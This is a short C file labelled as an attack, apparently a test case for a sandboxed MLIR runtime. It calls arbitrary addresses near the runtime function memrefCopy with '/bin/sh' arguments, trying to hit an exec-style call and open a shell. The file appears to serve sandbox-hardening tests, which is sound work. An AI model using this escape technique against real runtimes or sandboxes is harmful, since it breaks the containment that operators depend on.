/* Attack: calls whatever is near a function of the recorder, with arguments that suit a system call. */
#include "runtime.h"
void _mlir_concrete_main(void **args) {
  char *program = "/bin/sh", *arguments[] = {program, 0};
  for (long at = 0; at < 1 << 16; at += 16)
    ((long (*)(char *, char **, long, long, long, long))((char *)memrefCopy + at))(program, arguments, 0, 0, 0, 0);
  output(args, input(args, 0));
}
